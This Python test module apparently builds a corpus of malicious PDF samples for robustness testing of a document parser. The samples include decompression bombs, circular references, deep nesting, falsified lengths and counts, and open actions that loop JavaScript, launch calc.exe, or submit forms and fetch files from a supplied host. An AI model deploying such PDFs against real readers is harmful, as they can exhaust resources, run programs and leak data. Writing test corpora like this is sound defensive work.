"""PDFs that loop, grow, nest, lie, or act."""

import struct
import zlib
from collections.abc import Iterator

from tests.documents import samples
from tests.documents.corpus import Hostile
from tests.documents.corpus.growing import grown
from tests.documents.samples.pdfs import assemble_pdf

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources %s >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
WORDS = b"BT /F1 11 Tf 72 720 Td (Marisol) Tj ET"


def hostile(address: str) -> Iterator[Hostile]:
    """Every one of them; what fetches, fetches from `address`."""
    yield from _bombs()
    yield from _loops()
    yield from _lies()
    yield from _deep()
    yield from _sizes()
    yield from _acts(address)


def stream(data: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    """Return a stream object; `length` lies about it."""
    told = len(data) if length is None else length
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (told, entries, data)


def one_page(
    content: bytes = WORDS,
    entries: bytes = b"",
    *,
    resources: bytes = b"<< >>",
    catalog: bytes = b"",
    extra: tuple[bytes, ...] = (),
    page: bytes = b"",
) -> bytes:
    """Return a PDF of one page (object 3) with its content in object 4; `extra` are from 5."""
    body = page or PAGE % resources
    return assemble_pdf([CATALOG % catalog, PAGES, body, stream(content, entries), *extra])


def _bombs() -> Iterator[Hostile]:
    flate = b"/Filter /FlateDecode"
    yield Hostile("pdf whose page grows to 1 GB", one_page(grown(1024, b" "), flate), bomb=True)
    twice = zlib.compress(grown(2000, b" "), 9)
    yield Hostile(
        "pdf whose page grows in two steps",
        one_page(twice, b"/Filter [/FlateDecode /FlateDecode]"),
        bomb=True,
    )
    drawing = grown(64, b"0 0 1 1 re f\n    ")
    yield Hostile("pdf that draws four million boxes", one_page(drawing, flate), bomb=True)
    writing = grown(32, b"BT (xxxxx) Tj ET")
    yield Hostile("pdf that writes two million times", one_page(writing, flate))
    chain = b"/Filter [" + b"/FlateDecode " * 200 + b"]"
    yield Hostile("pdf with 200 filters", one_page(zlib.compress(WORDS), chain))
    image = (
        b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8"
        b" /ColorSpace /DeviceRGB /Filter /FlateDecode"
    )
    yield Hostile(
        "pdf with a picture of 900 million pixels",
        one_page(
            b"q 500 0 0 500 0 0 cm /I Do Q",
            resources=b"<< /XObject << /I 5 0 R >> >>",
            extra=(stream(grown(64), image),),
        ),
    )
    objects = b" ".join(b"%d 0" % n for n in range(50_000)) + b" "
    packed = zlib.compress(objects + b"<<>> " * 50_000)
    yield Hostile(
        "pdf with an object stream that grows",
        one_page(
            extra=(
                stream(grown(512), b"/Type /ObjStm /N 99999999 /First 10 /Filter /FlateDecode"),
                stream(packed, b"/Type /ObjStm /N 50000 /First %d" % len(objects)),
            )
        ),
    )


def _loops() -> Iterator[Hostile]:
    whole = samples.pdf()
    start = int(whole.rpartition(b"startxref\n")[2].split()[0])
    for name, target in (("itself", start), ("the header", 0), ("beyond its end", 10**9)):
        changed = whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % target)
        yield Hostile(f"pdf whose table leads to {name}", changed)
    yield Hostile(
        "pdf whose pages are their own parent",
        assemble_pdf([CATALOG % b"", b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"]),
    )
    yield Hostile(
        "pdf whose pages go in a circle",
        assemble_pdf(
            [
                CATALOG % b"",
                b"<< /Type /Pages /Count 9 /Kids [3 0 R 3 0 R 3 0 R] /Parent 3 0 R >>",
                b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R 2 0 R] /Parent 2 0 R >>",
            ]
        ),
    )
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F %d 0 R >> >>"
    )
    yield Hostile(
        "pdf with a form in itself",
        one_page(
            b"/F Do",
            resources=b"<< /XObject << /F 5 0 R >> >>",
            extra=(stream(b"/F Do /F Do", form % 5),),
        ),
    )
    doubling = tuple(stream(b"/F Do /F Do", form % (6 + n)) for n in range(40))
    yield Hostile(
        "pdf with forms that double forty times",
        one_page(b"/F Do", resources=b"<< /XObject << /F 5 0 R >> >>", extra=doubling),
    )
    glyph = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0]"
    glyph += b" /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97"
    glyph += b" /LastChar 97 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>"
    yield Hostile(
        "pdf with letters made of themselves",
        one_page(
            b"BT /F1 9 Tf (a) Tj ET",
            resources=b"<< /Font << /F1 5 0 R >> >>",
            extra=(glyph, stream(b"9 0 0 0 9 9 d1 BT /F1 9 Tf (aa) Tj ET")),
        ),
    )
    yield Hostile(
        "pdf whose content is itself", one_page(page=PAGE.replace(b"4 0 R", b"3 0 R") % b"null")
    )
    yield Hostile("pdf whose length is itself", one_page().replace(b"/Length 38", b"/Length 4 0 R"))
    yield Hostile("pdf whose root is a page", one_page().replace(b"/Root 1", b"/Root 3"))


def _lies() -> Iterator[Hostile]:
    for count in (b"0", b"-1", b"2147483647", b"-2147483648", b"99999999999999", b"1.5", b"[1]"):
        yield Hostile(
            f"pdf that says it has {count.decode()} pages",
            one_page().replace(b"/Count 1", b"/Count " + count),
        )
    for length in (0, 5, 10**9, 2**31 - 1, -1):
        changed = assemble_pdf(
            [CATALOG % b"", PAGES, PAGE % b"<< >>", stream(WORDS, length=length)]
        )
        yield Hostile(f"pdf whose page says it has {length} bytes", changed)
    whole = samples.pdf()
    for name, old, new in (
        ("no table", b"xref", b"yref"),
        ("no trailer", b"trailer", b"trouble"),
        ("no root", b"/Root", b"/Toor"),
        ("a huge table", b"xref\n0 ", b"xref\n0 99999999"),
        ("a negative table", b"xref\n0 ", b"xref\n-9 "),
        ("no pages", b"/Pages 2 0 R", b"/Pages 9 0 R"),
        ("an odd size", b"/Size ", b"/Size -"),
        ("numbers of 300 digits", b"[0 0 612 792]", b"[" + b"9" * 300 + b" 0 0 1]"),
        ("objects of generation 65535", b" 0 obj", b" 65535 obj"),
        ("an unknown lock", b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Nobody /V 9 >>"),
        ("a lock that is no lock", b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 1 0 R"),
    ):
        yield Hostile(f"pdf with {name}", whole.replace(old, new))
    wide = struct.pack(">BQH", 1, 10**9, 0) * 3
    entries = b"/Type /XRef /Size 99999999 /W [1 99999 2] /Root 1 0 R"
    yield Hostile("pdf with a table of odd width", one_page(extra=(stream(wide, entries),)))
    yield Hostile("pdf that asks for a password", samples.encrypted_pdf())
    yield Hostile("pdf that begins late", samples.late_header_pdf())
    yield Hostile("pdf of a header and no more", b"%PDF-1.7\n%%EOF\n")
    yield Hostile("pdf of 3000 pages", samples.pdf(pages=3000))
    yield Hostile("pdf of 400 pages", samples.pdf(pages=400))


def _deep() -> Iterator[Hostile]:
    for count in (500, 100_000):
        for name, opening, closing in (("lists", b"[", b"]"), ("entries", b"<< /A ", b">>")):
            nested = opening * count + b"0" + closing * count
            yield Hostile(f"pdf with {count} {name} in each other", one_page(extra=(nested,)))
            yield Hostile(
                f"pdf whose catalog has {count} {name} in each other",
                one_page(catalog=b"/X " + nested),
            )
    yield Hostile("pdf with 100000 saved states", one_page(b"q " * 100_000))
    yield Hostile("pdf with nested marks", one_page(b"/A BMC " * 100_000))
    yield Hostile("pdf with a long word", one_page(b"BT (" + b"x" * 5_000_000 + b") Tj ET"))
    yield Hostile("pdf with a long name", one_page(catalog=b"/" + b"N" * 1_000_000 + b" 1"))
    yield Hostile("pdf with brackets for ever", one_page(b"BT (" + b"(" * 1_000_000))
    outline = b"/Outlines << /First 5 0 R /Last 5 0 R /Count 9 >>"
    yield Hostile(
        "pdf whose outline is its own next",
        one_page(catalog=outline, extra=(b"<< /Title (x) /Next 5 0 R /Parent 5 0 R >>",)),
    )
    tree = b"/Names << /EmbeddedFiles << /Kids [5 0 R] >> /JavaScript << /Kids [5 0 R] >> >>"
    yield Hostile(
        "pdf whose names go in a circle",
        one_page(catalog=tree, extra=(b"<< /Kids [5 0 R 5 0 R] >>",)),
    )
    fields = b"/AcroForm << /Fields [5 0 R] >>"
    yield Hostile(
        "pdf whose fields go in a circle",
        one_page(catalog=fields, extra=(b"<< /FT /Tx /T (a) /Kids [5 0 R] /Parent 5 0 R >>",)),
    )
    notes = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] >> " * 20_000
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [%s] >>" % notes
    yield Hostile("pdf with 20000 notes", one_page(page=page))


def _sizes() -> Iterator[Hostile]:
    for box in (
        b"0 0 0 0", b"0 0 1 1000000", b"0 0 1000000000 1000000000", b"5 5 1 1", b"0 0 0.0001 9",
        b"-99999 -99999 99999 99999", b"0 0 nan inf", b"(a) (b) (c) (d)",
    ):  # fmt: skip
        yield Hostile(f"pdf with a page of {box.decode()}", samples.pdf(box=box))
    page = PAGE.replace(b"/Type /Page ", b"/Type /Page /UserUnit 99999999 /Rotate 45 ")
    yield Hostile("pdf with a turned page of odd units", one_page(page=page % b"<< >>"))
    shade = (
        b"<< /Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function << /FunctionType 4"
        b" >> >> >> >>"
    )
    yield Hostile("pdf with a broken shading", one_page(b"/S sh", resources=shade))
    for filter_ in ("DCTDecode", "JPXDecode", "JBIG2Decode", "CCITTFaxDecode", "LZWDecode"):
        entries = (
            b"/Type /XObject /Subtype /Image /Width 5000 /Height 5000 /BitsPerComponent 8"
            b" /ColorSpace /DeviceGray /Filter /" + filter_.encode()
        )
        yield Hostile(
            f"pdf with a broken picture in {filter_}",
            one_page(
                b"q 500 0 0 500 0 0 cm /I Do Q",
                resources=b"<< /XObject << /I 5 0 R >> >>",
                extra=(stream(bytes(range(256)) * 40, entries),),
            ),
        )
    tile = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1]"
        b" /XStep 0.00001 /YStep 0.00001 /Resources << >>"
    )
    yield Hostile(
        "pdf with tiles without number",
        one_page(
            b"/Pattern cs /P scn 0 0 612 792 re f",
            resources=b"<< /Pattern << /P 5 0 R >> >>",
            extra=(stream(b"0 0 1 1 re f", tile),),
        ),
    )
    font = b"/Font << /F1 << /Type /Font /Subtype /TrueType /FontDescriptor 5 0 R >> >>"
    yield Hostile(
        "pdf with a broken font",
        one_page(
            resources=b"<< " + font + b" >>",
            extra=(
                b"<< /Type /FontDescriptor /FontName /A /FontFile2 6 0 R >>",
                stream(b"\0\1\0\0" + bytes(range(256)) * 9),
            ),
        ),
    )


def _acts(address: str) -> Iterator[Hostile]:
    site = address.encode()
    for name, action in (
        ("a script", b"<< /S /JavaScript /JS (while(1);) >>"),
        ("a program", b"<< /S /Launch /F (calc.exe) >>"),
        ("an address", b"<< /S /URI /URI (http://%s/u) >>" % site),
        ("a form that is sent", b"<< /S /SubmitForm /F (http://%s/f) >>" % site),
        ("another file", b"<< /S /GoToR /F (\\\\\\\\%s\\\\x) >>" % site),
        ("a film", b"<< /S /Rendition /R << /C << /D (http://%s/m) >> >> >>" % site),
        ("itself again", b"<< /S /Named /N /Print /Next 1 0 R >>"),
    ):
        yield Hostile(f"pdf that opens {name}", samples.pdf(catalog=b"/OpenAction " + action))
    for make in (
        samples.hidden_javascript_pdf, samples.attaching_pdf, samples.javascript_pdf,
    ):  # fmt: skip
        yield Hostile(make.__name__, make())
    outside = b"<< /F << /FS /URL /F (http://%s/s) >> /Length 0 >>\nstream\n\nendstream" % site
    yield Hostile(
        "pdf whose page is fetched", assemble_pdf([CATALOG % b"", PAGES, PAGE % b"<< >>", outside])
    )
